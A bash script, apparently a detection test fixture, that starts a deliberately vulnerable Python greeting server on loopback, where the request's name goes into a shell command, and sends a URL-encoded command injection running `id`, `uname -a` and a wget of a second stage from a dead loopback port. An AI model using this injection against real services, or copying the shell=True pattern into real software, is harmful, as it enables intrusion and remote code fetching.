#!/bin/bash
# Exploit a command injection in a small Python web application: the app listens on
# loopback and runs `sh -c "echo <name>"` with the name taken from the request; curl sends
# a name that appends `id`, `uname -a` and a wget of a second stage from a loopback URL
# where nothing listens. The server is stopped by its pid at the end.
# technique: T1190
# expect: served-app-command
set -eu
cat > "$TPY_WORK/app.py" <<'PY'
import http.server, subprocess, sys, urllib.parse

class Greeter(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        name = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query).get("name", [""])[0]
        # the vulnerability: request data pasted into a shell command
        out = subprocess.run(f"echo hello {name}", shell=True, capture_output=True).stdout
        self.send_response(200)
        self.end_headers()
        self.wfile.write(out)

    def log_message(self, *args: object) -> None:
        pass

server = http.server.HTTPServer(("127.0.0.1", 0), Greeter)
print(server.server_address[1], flush=True)
server.serve_forever()
PY
python3 "$TPY_WORK/app.py" > "$TPY_WORK/port" &
app=$!
trap 'kill "$app" 2>/dev/null || true' EXIT
for _ in $(seq 50); do
    [ -s "$TPY_WORK/port" ] && break
    sleep 0.1
done
port=$(cat "$TPY_WORK/port")
curl -fsS "http://127.0.0.1:$port/?name=world" > /dev/null
curl -fsS "http://127.0.0.1:$port/?name=x%3Bid%3Buname%20-a%3Bwget%20-q%20-T1%20-O-%20http%3A%2F%2F127.0.0.1%3A1%2Fs2" > /dev/null
